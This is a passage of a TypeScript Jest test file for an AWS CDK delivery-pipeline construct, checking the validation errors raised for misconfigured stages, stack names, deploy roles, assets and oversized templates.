      environments: [{ name: 'prod', production: true, account: '222222222222', deployments: [DeploymentTarget.cdkStage(prod), DeploymentTarget.cdkStage(prodUs)] }],
    }));
    expect(stageOf(stack, 'prod').Actions.filter((a: any) => a.RunOrder === 2).map((a: any) => `${a.Name} ${a.Region}`)).toEqual([
      'orders-data-prod.Prepare eu-west-1', 'orders-data-produs.Prepare us-east-1',
    ]);
  });

  test('fails when the stage belongs to another app (regression: its templates were never in the build output)', () => {
    const { stack } = setup();
    const elsewhere = new OrdersServiceStage(newApp(), 'Staging', { env: { account: '111111111111', region: 'eu-west-1' } });
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(elsewhere)] }] })))).toBe(
      "'PipelineStack/Orders': environments[0] ('staging').deployments[0].stage belongs to another CDK app than the pipeline, so the build's 'cdk synth' never writes its templates, "
      + "got 'Staging'. Create the stage in the app that holds the pipeline's stack: new MyServiceStage(app, 'Prod', { env }).");
  });

  test('fails when two environments deploy the same stage into one account and region (regression: the second redeployed the first\'s stacks)', () => {
    const { stack, staging } = setup();
    const environments = [
      { name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] },
      { name: 'qa', deployments: [DeploymentTarget.cdkStage(staging)] },
    ];
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments })))).toBe(
      "'PipelineStack/Orders': environments[1] ('qa').deployments[0].stage deploys stack 'orders-data-staging' into the same account and region (111111111111/eu-west-1) as "
      + "environments[0] ('staging'), got 'orders-data-staging'. Give each environment a stage of its own (new MyServiceStage(app, 'Prod', { env }) per environment), or another account or region.");
  });

  test('two stages whose stack has a fixed stackName, in one account and region: the fix names the stackName (regression: said to give each a stage)', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const serviceStage = (id: string) => {
      const stage = new Stage(app, id, { env: { account: '222222222222', region: 'eu-west-1' } });
      new Stack(stage, 'Data', { stackName: 'orders-data' });
      return stage;
    };
    const environments = [
      { name: 'staging', account: '222222222222', deployments: [DeploymentTarget.cdkStage(serviceStage('Staging'))] },
      { name: 'prod', account: '222222222222', deployments: [DeploymentTarget.cdkStage(serviceStage('Prod'))] },
    ];
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments })))).toBe(
      "'PipelineStack/Orders': environments[1] ('prod').deployments[0].stage deploys stack 'orders-data' into the same account and region (222222222222/eu-west-1) as "
      + "environments[0] ('staging'), got 'orders-data'. Give the stack a name of its own in each stage (new Stack(this, 'Data', { stackName: "
      + '`orders-data-${this.stageName}` }) in the stage), or deploy the stages to another account or region.');
  });

  test('two stages of one environment with a stack of one stackName, or a stage and a CloudFormation target: each told what to rename', () => {
    // each case in an app of its own: a pipeline claims the stacks it deploys in its app
    let app = newApp();
    let stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const fresh = () => {
      app = newApp();
      stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    };
    const stageWith = (id: string) => {
      const stage = new Stage(app, id, { env: { account: '111111111111', region: 'eu-west-1' } });
      new Stack(stage, 'Data', { stackName: 'shop-data' });
      return stage;
    };
    // regression: "has two actions named 'shop-data.Prepare' ... Rename one of them", which cdkStage cannot
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({
      environments: [{ name: 'beta', deployments: [DeploymentTarget.cdkStage(stageWith('Beta')), DeploymentTarget.cdkStage(stageWith('Gamma'))] }],
    })))).toBe("'PipelineStack/Orders': environments[0] ('beta').deployments[1].stage holds stack 'shop-data', as the stage of deployments[0] does: one "
      + "environment would deploy that stack twice, got 'shop-data'. Give the stack a name of its own in each stage (new Stack(this, 'Data', { stackName: "
      + '`shop-data-${this.stageName}` }) in the stage).');
    // a stage and a CloudFormation target of one environment (regression: "Rename one of them", which did not help)
    fresh();
    expect(errorOf(() => new DeliveryPipeline(stack, 'Third', props({
      environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stageWith('Delta')), DeploymentTarget.cloudFormation({ stackName: 'shop-data', templatePath: 't.json' })] }],
    })))).toBe("'PipelineStack/Third': environments[0] ('prod').deployments[1].stackName deploys stack 'shop-data', as the stage of deployments[0] does: one "
      + "environment would deploy that stack twice, got 'shop-data'. Deploy each stack with one target: remove the CloudFormation target, or give it or the "
      + "stage's stack another stackName.");
    // the stage first, the CloudFormation target in a later environment: the same advice
    fresh();
    expect(errorOf(() => new DeliveryPipeline(stack, 'Fourth', props({
      environments: [
        { name: 'beta', deployments: [DeploymentTarget.cdkStage(stageWith('Epsilon'))] },
        { name: 'prod', deployments: [DeploymentTarget.cloudFormation({ stackName: 'shop-data', templatePath: 't.json' })] },
      ],
    })))).toContain('Give the stack of the stage or the CloudFormation target another stackName, or deploy one of them to another account or region.');
    // regression: told to give each environment a stage of its own
    fresh();
    expect(errorOf(() => new DeliveryPipeline(stack, 'Other', props({
      environments: [
        { name: 'beta', deployments: [DeploymentTarget.cloudFormation({ stackName: 'shop-data', templatePath: 't.json' })] },
        { name: 'prod', deployments: [DeploymentTarget.cdkStage(stageWith('Prod'))] },
      ],
    })))).toBe("'PipelineStack/Other': environments[1] ('prod').deployments[0].stage deploys stack 'shop-data' into the same account and region "
      + "(111111111111/eu-west-1) as environments[0] ('beta'), got 'shop-data'. Give the stack of the stage or the CloudFormation target another stackName, "
      + 'or deploy one of them to another account or region.');
  });

  test('two stacks of one stage with one stackName: the error names both stacks (regression: told to deploy the stage once, which it was)', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const stage = new Stage(app, 'Prod', { env: { account: '111111111111', region: 'eu-west-1' } });
    withResource(new Stack(stage, 'A', { stackName: 'shop-data' }));
    withResource(new Stack(stage, 'B'));
    withResource(new Stack(stage, 'C', { stackName: 'shop-data' }));
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stage)] }] })))).toBe(
      "'PipelineStack/Orders': environments[0] ('prod').deployments[0].stage holds two stacks named 'shop-data', 'Prod/A' and 'Prod/C': CloudFormation has one "
      + "stack of a name in an account and region, so the environment would deploy each template over the other, got 'shop-data'. Give one of them a stackName "
      + "of its own (new Stack(this, 'C', { stackName }) in the stage), or leave its stackName out to have it named after its construct path.");
    // one stage deployed twice in an environment is told to deploy it once
    const app2 = newApp();
    const stack2 = new Stack(app2, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const once = new Stage(app2, 'Prod', { env: { account: '111111111111', region: 'eu-west-1' } });
    withResource(new Stack(once, 'A', { stackName: 'shop-data' }));
    expect(errorOf(() => new DeliveryPipeline(stack2, 'Orders', props({
      environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(once), DeploymentTarget.cdkStage(once)] }],
    })))).toContain('Deploy the stage once in the environment.');
  });

  test('fails when a CloudFormation target of the same environment deploys a stack of the stage (regression: both executed the same change set)', () => {
    const { stack, staging } = setup();
    const environments = [{
      name: 'staging',
      deployments: [
        DeploymentTarget.cdkStage(staging),
        DeploymentTarget.cloudFormation({ stackName: 'orders-api-staging', templatePath: 'api.json', name: 'Api' }),
      ],
    }];
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments })))).toBe(
      "'PipelineStack/Orders': environments[0] ('staging').deployments[1].stackName deploys stack 'orders-api-staging', as the stage of deployments[0] does: "
      + "one environment would deploy that stack twice, got 'orders-api-staging'. Deploy each stack with one target: remove the CloudFormation target, or give "
      + "it or the stage's stack another stackName.");
  });

  test('fails when the stage has no stacks', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const empty = new Stage(app, 'Empty');
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'e', deployments: [DeploymentTarget.cdkStage(empty)] }] })))).toBe(
      "'PipelineStack/Orders': environments[0] ('e').deployments[0].stage has no stacks to deploy, got 'Empty'. Add stacks to the stage before creating the pipeline (the stage is synthesized when the pipeline is configured).");
  });

  test('a stack added to the stage after the pipeline was configured fails the synth with the library\'s error (regression: aws-cdk-lib\'s "Synthesis has been called multiple times")', () => {
    const { app, stack, staging } = setup();
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }] }));
    new Stack(staging, 'Late');
    expect(errorOf(() => app.synth())).toBe(
      "'PipelineStack/Orders': environments[0] ('staging').deployments[0].stage got stacks after the pipeline was configured, when the stage was synthesized for it, "
      + "got 'Staging/Late'. Add every stack, resource, tag and aspect to the stage before creating the pipeline (or before addEnvironment with this stage).");
  });

  test('error annotations of the stage\'s stacks (cdk-nag, addError) fail \'cdk synth\': the stage\'s stacks ask the CLI to check them (regression: validateOnSynth false)', () => {
    const app = newApp();
    const pipelineStack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const prod = new Stage(app, 'Prod', { env: { account: '111111111111', region: 'eu-west-1' } });
    const api = withResource(new Stack(prod, 'Api', { stackName: 'orders-api' }));
    CdkAnnotations.of(api.node.findChild('Setting')).addError('AwsSolutions-SSM1: the parameter is not encrypted.');
    new DeliveryPipeline(pipelineStack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(prod)] }] }));
    // the stage's assembly as the pipeline synthesized it (Stage.synth keeps it: the app's synth writes this one)
    const nested = prod.synth();
    const stack = nested.getStackByName('orders-api');
    // the CDK CLI checks the stacks whose manifest has validateOnSynth for error metadata, and 'cdk synth' exits 1 on one
    expect(stack.validateOnSynth).toBe(true);
    expect(stack.findMetadataByType('aws:cdk:error').map(m => `${m.path}: ${m.data}`)).toEqual([
      '/Prod/Api/Setting: AwsSolutions-SSM1: the parameter is not encrypted.',
    ]);
    const manifest = JSON.parse(fs.readFileSync(path.join(nested.directory, 'manifest.json'), 'utf8'));
    expect(manifest.artifacts[stack.id].properties.validateOnSynth).toBe(true);
    // aws-cdk-lib 2.27x fails the app's synth on the error itself; older versions write it, for the CLI to fail on
    let synthError = '';
    try {
      expect(app.synth().getNestedAssembly('assembly-Prod').getStackByName('orders-api').validateOnSynth).toBe(true);
    } catch (e) {
      synthError = (e as Error).message;
    }
    if (synthError !== '') expect(synthError).toContain('AwsSolutions-SSM1: the parameter is not encrypted.');
  });

  test('a stage that keeps its stacks synthesizes with the app as before', () => {
    const { app, stack, staging } = setup();
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }] }));
    const assembly = app.synth();
    expect(assembly.getNestedAssembly('assembly-Staging').stacks.map(x => x.stackName).sort()).toEqual(['orders-api-staging', 'orders-data-staging']);
  });

  test('a stage for an explicit region with an env-agnostic pipeline stack is the library\'s error (regression: aws-cdk-lib\'s "must have an explicitly set region")', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack');
    const staging = new OrdersServiceStage(app, 'Staging', { env: { region: 'eu-west-1' } });
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging)] }] })))).toBe(
      "'PipelineStack/Orders': environments[0] ('staging').deployments[0].stage holds stacks for an explicit region, but the pipeline's stack has no explicit region "
      + "(cross-region deployments need one for the artifact replication bucket), got 'eu-west-1'. "
      + "Give the pipeline's stack an environment: new Stack(app, 'Pipeline', { env: { account: '111111111111', region: 'eu-west-1' } }).");
  });

  test('fails when a stack of the stage needs context lookups', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const stage = new Stage(app, 'Lookups', { env: { account: '111111111111', region: 'eu-west-1' } });
    const net = new Stack(stage, 'Net');
    ec2.Vpc.fromLookup(net, 'Vpc', { vpcName: 'main' });
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'e', deployments: [DeploymentTarget.cdkStage(stage)] }] })))).toMatch(
      /^'PipelineStack\/Orders': environments\[0\] \('e'\)\.deployments\[0\]\.stage has stacks that use context lookups \(vpc-provider:account=111111111111:.*\) that are not in cdk\.context\.json, got 'Lookups'\. Run 'cdk synth' once with credentials for the target account and commit cdk\.context\.json, so the pipeline's build synthesizes without lookups\.$/);
  });

  /** A pipeline stack and a CDK stage of its app whose one stack has a Docker image asset. */
  const withImagesStage = () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { account: '111111111111', region: 'eu-west-1' } });
    const stage = new Stage(app, 'Images', { env: { account: '111111111111', region: 'eu-west-1' } });
    const web = new Stack(stage, 'Web');
    const image = new ecrAssets.DockerImageAsset(web, 'Image', { directory: path.join(__dirname, 'docker-asset') });
    new ssm.StringParameter(web, 'ImageUri', { stringValue: image.imageUri });
    return { stack, stage };
  };

  test('Docker image assets: a privileged publishing action, or a clear error where privileged builds are not allowed', () => {
    const build = (privilegedAssetPublishing?: boolean) => {
      const { stack, stage } = withImagesStage();
      new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'e', deployments: [DeploymentTarget.cdkStage(stage, { privilegedAssetPublishing })] }] }));
      return stack;
    };
    const stack = build();
    const projects = Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[];
    expect(projects.find(p => /Asset publishing/.test(p.Properties.Description)).Properties.Environment.PrivilegedMode).toBe(true);
    expect(errorOf(() => build(false))).toBe(
      "'PipelineStack/Orders': environments[0] ('e').deployments[0].stage has 1 Docker image asset, which needs a privileged build to publish, but privilegedAssetPublishing is false, got 'Images'. Build and push the images outside the pipeline (ecs.ContainerImage.fromEcrRepository), or allow privileged asset publishing.");
  });

  test('publishAssetsInBuild with Docker image assets: the plan says the build runs privileged, as its project does (regression: privileged absent)', () => {
    const plan = (inBuild: boolean) => {
      const { stack, stage } = withImagesStage();
      const pipeline = new DeliveryPipeline(stack, 'Orders', props({
        publishAssetsInBuild: inBuild, environments: [{ name: 'e', deployments: [DeploymentTarget.cdkStage(stage)] }],
      }));
      const build = (Object.values(Template.fromStack(stack).findResources('AWS::CodeBuild::Project')) as any[])
        .find(p => /^Build of /.test(p.Properties.Description));
      return { privilegedMode: build.Properties.Environment.PrivilegedMode, planned: pipeline.describe().buildStep.privileged };
    };
    expect(plan(true)).toEqual({ privilegedMode: true, planned: true });
    expect(plan(false)).toEqual({ privilegedMode: false, planned: undefined });
  });

  test('changeSetReview under continuous deployment is refused', () => {
    const { stack, staging } = setup();
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({
      releaseMode: ReleaseMode.CONTINUOUS_DEPLOYMENT,
      environments: [{ name: 'staging', deployments: [DeploymentTarget.cdkStage(staging, { changeSetReview: true })] }],
    })))).toBe("'PipelineStack/Orders': environments[0] ('staging').deployments asks for a change-set review (changeSetReview: true), a manual approval ReleaseMode.CONTINUOUS_DEPLOYMENT does not allow, got changeSetReview: true. Remove changeSetReview, or use ReleaseMode.CONTINUOUS_DELIVERY.");
  });

  test('a stage whose stacks name an account, deployed from a pipeline stack without one, gets cross-account artifact keys (regression: aws-cdk-lib\'s ArtifactBucketMustHaveKmsKey error)', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: { region: 'eu-west-1' } });
    const prod = new OrdersServiceStage(app, 'Prod', { env: { account: '222222222222', region: 'eu-west-1' } });
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(prod)] }] }));
    const keys = Object.values(Template.fromStack(stack).findResources('AWS::KMS::Key')) as any[];
    expect(keys).toHaveLength(1);
    expect(keys[0].Properties.EnableKeyRotation).toBe(true);
    expect(stageOf(stack, 'prod').Actions.map((a: any) => flat(a.RoleArn))).toContain('arn:aws:iam::222222222222:role/cdk-hnb659fds-deploy-role-222222222222-eu-west-1');
  });
});

describe('DeploymentTarget.cdkStage: stages the pipeline could not deploy as written', () => {
  const E = { account: '111111111111', region: 'eu-west-1' };
  const F = "'PipelineStack/Orders': environments[0] ('prod').deployments[0]";
  function pipelineFor(stage: Stage, environment: Partial<EnvironmentOptions> = {}, options = {}) {
    const stack = new Stack(stage.node.root as App, 'PipelineStack', { env: E });
    return () => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stage, options)], ...environment }] }));
  }

  test('the App passed as the stage (regression: "name must not be empty")', () => {
    const app = newApp();
    const stack = new Stack(app, 'PipelineStack', { env: E });
    expect(errorOf(() => new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(app)] }] })))).toBe(
      `${F}.stage is the App itself, not a Stage in it, got the App. Pass a Stage holding the stacks to deploy: new MyServiceStage(app, 'Prod', { env }).`);
  });

  test('cloudAssemblyDirectory is normalized; an absolute path or one outside the build output is refused', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    withResource(new Stack(stage, 'Svc'));
    const stack = new Stack(app, 'PipelineStack', { env: E });
    new DeliveryPipeline(stack, 'Orders', props({ environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stage, { cloudAssemblyDirectory: './infra//cdk.out/' })] }] }));
    const p = Object.values(Template.fromStack(stack).findResources('AWS::CodePipeline::Pipeline'))[0] as any;
    const prepare = p.Properties.Stages.find((s: any) => s.Name === 'prod').Actions[0];
    expect(prepare.Configuration.TemplatePath).toMatch(/^BuildOutput::infra\/cdk\.out\/assembly-Prod\/ProdSvc[A-Z0-9]*\.template\.json$/);
    for (const bad of ['/home/build/cdk.out', '../cdk.out']) {
      const app2 = newApp();
      const stage2 = new Stage(app2, 'Prod', { env: E });
      new Stack(stage2, 'Svc');
      expect(errorOf(pipelineFor(stage2, {}, { cloudAssemblyDirectory: bad }))).toBe(
        `${F}.cloudAssemblyDirectory must be a directory inside the build output, got '${bad}'. Pass the directory the build's 'cdk synth' writes, relative to the build output, for example 'cdk.out'.`);
    }
  });

  test('stacks of a nested stage are refused unless a target of the environment deploys that stage (regression: silently not deployed)', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    new Stack(stage, 'Top');
    const inner = new Stage(stage, 'Inner');
    new Stack(inner, 'Deep');
    expect(errorOf(pipelineFor(stage))).toBe(`${F}.stage holds stacks in a stage nested in it, which this target does not deploy and no other target of `
      + "the pipeline does, got 'Prod/Inner'. Deploy the nested stage with a DeploymentTarget.cdkStage(...) of its own, in the environment of its account and "
      + 'region, or create its stacks in this stage.');
    // the outer stage and the nested one, each by its own target (regression: refused although the error's fix was followed)
    const stack = new Stack(app, 'OtherPipelineStack', { env: E });
    const pipeline = new DeliveryPipeline(stack, 'Orders', props({
      environments: [{ name: 'prod', deployments: [DeploymentTarget.cdkStage(stage), DeploymentTarget.cdkStage(inner)] }],
    }));
    expect(pipeline.describe().environments[0].deployments.map(d => d.summary)).toEqual([
      'CDK stage Prod: 1 stack via change sets', 'CDK stage Prod-Inner: 1 stack via change sets',
    ]);
  });

  test('a stack whose synthesizer assumes the deploy role with an external id warns: CodePipeline cannot pass it (regression: dropped silently)', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    const svc = new Stack(stage, 'Svc', { synthesizer: new DefaultStackSynthesizer({ deployRoleExternalId: 'secret-ext' }) });
    // newer aws-cdk-lib refuses a template without resources
    new CfnResource(svc, 'Marker', { type: 'AWS::CloudFormation::WaitConditionHandle' });
    pipelineFor(stage)();
    const stack = app.node.findChild('PipelineStack') as Stack;
    expect(Annotations.fromStack(stack).findWarning('*', Match.stringLikeRegexp('deployRoleExternalId')).map(w => w.entry.data)).toEqual([
      "stack 'Prod-Svc' has a synthesizer that assumes its deploy role with an external id (deployRoleExternalId), which CodePipeline cannot pass when it "
      + "assumes an action's role: if the role's trust policy requires the id, the deployment fails with AccessDenied. Let the deploy role trust the "
      + "pipeline's account without the id (cdk bootstrap --trust), or leave deployRoleExternalId out for stacks the pipeline deploys. "
      + '[ack: delivery-pipeline:deployRoleExternalId]',
    ]);
  });

  test('a stack whose synthesizer names a deploy or execution role of another account is refused (regression: the stack was deployed there)', () => {
    const prodEnv = { account: '333333333333', region: 'eu-west-1' };
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: prodEnv });
    withResource(new Stack(stage, 'Svc', {
      synthesizer: new DefaultStackSynthesizer({
        deployRoleArn: 'arn:${AWS::Partition}:iam::222222222222:role/deployer',
        cloudFormationExecutionRole: 'arn:${AWS::Partition}:iam::222222222222:role/cfnexec',
      }),
    }));
    expect(errorOf(pipelineFor(stage, { account: '333333333333' }))).toBe(
      `${F}.stage holds stack 'Prod-Svc' (stage 'Prod') whose synthesizer names a deploy role of account 222222222222, but the stack deploys to account `
      + "333333333333: CodePipeline would run the stack's actions, and CloudFormation create it, in that account, "
      + "got 'arn:${AWS::Partition}:iam::222222222222:role/deployer'. Name a role of account 333333333333 in the stack's synthesizer (deployRoleArn; "
      + "'${AWS::AccountId}' stands for the stack's account), or deploy the stack to account 222222222222 (the stage's env and the environment's account).");

    // the execution role alone, of an env-agnostic stack the environment puts in its account
    const app2 = newApp();
    const stage2 = new Stage(app2, 'Prod');
    withResource(new Stack(stage2, 'Svc', {
      synthesizer: new DefaultStackSynthesizer({ cloudFormationExecutionRole: 'arn:${AWS::Partition}:iam::222222222222:role/cfnexec' }),
    }));
    expect(errorOf(pipelineFor(stage2, { account: '333333333333' }))).toBe(
      `${F}.stage holds stack 'Prod-Svc' (stage 'Prod') whose synthesizer names a CloudFormation execution role of account 222222222222, but the stack `
      + "deploys to account 333333333333: CloudFormation takes an execution role of the stack's own account only, so the change set would fail, "
      + "got 'arn:${AWS::Partition}:iam::222222222222:role/cfnexec'. Name a role of account 333333333333 in the stack's synthesizer "
      + "(cloudFormationExecutionRole; '${AWS::AccountId}' stands for the stack's account), or deploy the stack to account 222222222222 "
      + "(the stage's env and the environment's account).");
  });

  test('roles of the stack\'s own account, named literally or with ${AWS::AccountId}, run its actions', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: { account: '333333333333', region: 'eu-west-1' } });
    withResource(new Stack(stage, 'Svc', {
      synthesizer: new DefaultStackSynthesizer({
        deployRoleArn: 'arn:${AWS::Partition}:iam::333333333333:role/deployer',
        cloudFormationExecutionRole: 'arn:${AWS::Partition}:iam::${AWS::AccountId}:role/cfnexec',
      }),
    }));
    pipelineFor(stage, { account: '333333333333' })();
    const prepare = stageOf(app.node.findChild('PipelineStack') as Stack, 'prod').Actions.find((a: any) => a.Name === 'Prod-Svc.Prepare');
    expect(flat(prepare.RoleArn)).toBe('arn:aws:iam::333333333333:role/deployer');
    expect(flat(prepare.Configuration.RoleArn)).toBe('arn:aws:iam::333333333333:role/cfnexec');
  });

  test('a nested stage of another region than its parent is deployed by an environment of that region', () => {
    const app = newApp();
    const prod = new Stage(app, 'Prod', { env: { account: '111111111111', region: 'us-east-1' } });
    new Stack(prod, 'Global');
    const eu = new Stage(prod, 'EU', { env: { account: '111111111111', region: 'eu-west-1' } });
    new Stack(eu, 'Svc');
    const stack = new Stack(app, 'PipelineStack', { env: E });
    const pipeline = new DeliveryPipeline(stack, 'Orders', props({
      environments: [
        { name: 'prod-global', region: 'us-east-1', deployments: [DeploymentTarget.cdkStage(prod)] },
        { name: 'prod-eu', region: 'eu-west-1', deployments: [DeploymentTarget.cdkStage(eu)] },
      ],
    }));
    expect(pipeline.describe().environments.map(e => e.deployments.map(d => d.summary))).toEqual([
      ['CDK stage Prod: 1 stack via change sets'], ['CDK stage Prod-EU: 1 stack via change sets'],
    ]);
  });

  test('a stage with stacks in nested stages only says so', () => {
    const app = newApp();
    const stage = new Stage(app, 'Region', { env: E });
    new Stack(new Stage(stage, 'Cell1'), 'Svc');
    expect(errorOf(pipelineFor(stage))).toBe(`${F}.stage has no stacks of its own: its stacks are in the stages nested in it, which this target would not `
      + "deploy, got 'Region/Cell1'. Deploy each nested stage with a DeploymentTarget.cdkStage(...) of its own.");
  });

  test('stacks of two regions in one stage: a CDK stage target deploys to one region', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: { account: E.account } });
    new Stack(stage, 'Cert', { env: { account: E.account, region: 'us-east-1' } });
    new Stack(stage, 'Web', { env: E });
    expect(errorOf(pipelineFor(stage))).toBe(
      `${F}.stage holds stacks for 2 regions (us-east-1, eu-west-1), but a CDK stage target deploys to one region, got 'Prod'. Split the stage into one stage per region, `
      + 'and deploy them from one environment that names no region (its targets deploy in parallel, each where its stacks say) or from one environment each.');
  });

  test('a stack of the legacy synthesizer is refused (regression: an action role without permissions, asset parameters without values)', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    new Stack(stage, 'Svc', { synthesizer: new LegacyStackSynthesizer() });
    expect(errorOf(pipelineFor(stage))).toBe(
      `${F}.stage holds stack 'Prod-Svc' whose synthesizer names no deploy role and CloudFormation execution role, which the pipeline's actions need, got Prod-Svc. `
      + 'Use the DefaultStackSynthesizer (the default; not LegacyStackSynthesizer or CliCredentialsStackSynthesizer), or a BootstraplessSynthesizer with deployRoleArn and cloudFormationExecutionRoleArn.');
  });

  test('a stack of the AppStagingSynthesizer is refused: its staging stack would not exist when the pipeline publishes the assets', () => {
    // the shape of @aws-cdk/app-staging-synthesizer-alpha's synthesizer once bound to a stack: the
    // staging resources (a staging stack of the app, with its bucket and repositories) that take its assets
    class AppStagingShapedSynthesizer extends DefaultStackSynthesizer {
      public readonly stagingStack = {
        addFile: () => ({ bucketName: 'cdk-shop-staging-111111111111-eu-west-1' }),
        addDockerImage: () => ({ repoName: 'shop/web' }),
      };
    }
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    withResource(new Stack(stage, 'Data'));
    withResource(new Stack(stage, 'Svc', { synthesizer: new AppStagingShapedSynthesizer() }));
    expect(errorOf(pipelineFor(stage))).toBe(
      `${F}.stage holds stack 'Prod-Svc' whose synthesizer is the AppStagingSynthesizer (@aws-cdk/app-staging-synthesizer-alpha), which puts its assets `
      + "in the bucket and repositories of the app's staging stack: the pipeline publishes the stages' assets once per execution before any environment, "
      + 'so before that staging stack exists (or has the repository of a new image asset): the asset publishing would fail, got \'Prod/Svc\'. '
      + 'Give the stacks of stages the pipeline deploys the DefaultStackSynthesizer (synthesizer: new DefaultStackSynthesizer() on each stack, '
      + 'or no defaultStackSynthesizer on the App): their assets then go to the CDK bootstrap bucket and repository (cdk bootstrap --trust <pipeline account> '
      + 'for another account).');
  });

  test('a template parameter without a default is refused (regression: CloudFormation refuses the change set)', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    const svc = new Stack(stage, 'Svc');
    new CfnParameter(svc, 'InstanceCount', { type: 'Number' });
    new CfnParameter(svc, 'Size', { type: 'String', default: 'small' });
    expect(errorOf(pipelineFor(stage))).toBe(
      `${F}.stage holds stack 'Prod-Svc' whose template has parameters without a default, for which the pipeline's change set passes no value, got InstanceCount. `
      + 'Give each CfnParameter a default, or pass the values as construct properties of the stack instead of parameters.');
  });

  test('a stack whose template is over CloudFormation\'s 1 MB is refused (regression: the change set failed after the build)', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    const svc = new Stack(stage, 'Svc');
    new CfnResource(svc, 'Big', { type: 'AWS::SSM::Parameter', properties: { Type: 'String', Value: 'x'.repeat(1_000_000) } });
    expect(errorOf(pipelineFor(stage))).toMatch(new RegExp(
      `^${F.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\.stage holds stack 'Prod-Svc' whose template is 10\\d{5} bytes, more than CloudFormation's 1000000: its change set would be refused, `
      + 'got 10\\d{5} bytes\\. Move resources into another stack of the stage \\(or a NestedStack\\), or set suppressTemplateIndentation: true on the stack\\.$'));
  });

  test('a nested stack whose template is over CloudFormation\'s 1 MB is refused, naming the nested stack (regression: only top-level templates were measured)', () => {
    const app = newApp();
    const stage = new Stage(app, 'Prod', { env: E });
    const svc = new Stack(stage, 'Svc');
    const big = new NestedStack(svc, 'Params');
    for (let i = 0; i < 300; i++) new CfnResource(big, `P${i}`, { type: 'AWS::SSM::Parameter', properties: { Type: 'String', Value: 'x'.repeat(4000) } });
    expect(errorOf(pipelineFor(stage))).toMatch(new RegExp(
      `^${F.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\.stage holds stack 'Prod-Svc' whose nested stack 'Prod/Svc/Params' has a template of 12\\d{5} bytes, `
      + "more than CloudFormation's 1000000 for a template in S3: the stack's deployment would fail when CloudFormation creates or updates the nested stack, "
      + 'got 12\\d{5} bytes\\. Move resources into another nested stack \\(or another stack of the stage\\)\\.$'));
    // the top-level template only names the nested one, far under the limit
    expect(fs.statSync(path.join(stage.outdir, svc.templateFile)).size).toBeLessThan(10_000);

    // over the limit only by its indentation: the fix says so
    const app2 = newApp();
    const stage2 = new Stage(app2, 'Prod', { env: E });
    const nested = new NestedStack(new Stack(stage2, 'Svc'), 'Params');
    const tags = Object.fromEntries(Array.from({ length: 200 }, (_, j) => [`k${j}`, 'v']));
    for (let i = 0; i < 400; i++) new CfnResource(nested, `P${i}`, { type: 'AWS::SSM::Parameter', properties: { Type: 'String', Value: 'x', Tags: tags } });
    expect(errorOf(pipelineFor(stage2))).toMatch(new RegExp("whose nested stack 'Prod/Svc/Params' has a template of \\d+ bytes, .* got \\d+ bytes\\. "
      + 'Set suppressTemplateIndentation: true on the nested stack \\(its template is then \\d{6} bytes\\), or move resources into another nested stack\\.$'));
    // a nested stack under the limit deploys
    const app3 = newApp();
    const stage3 = new Stage(app3, 'Prod', { env: E });
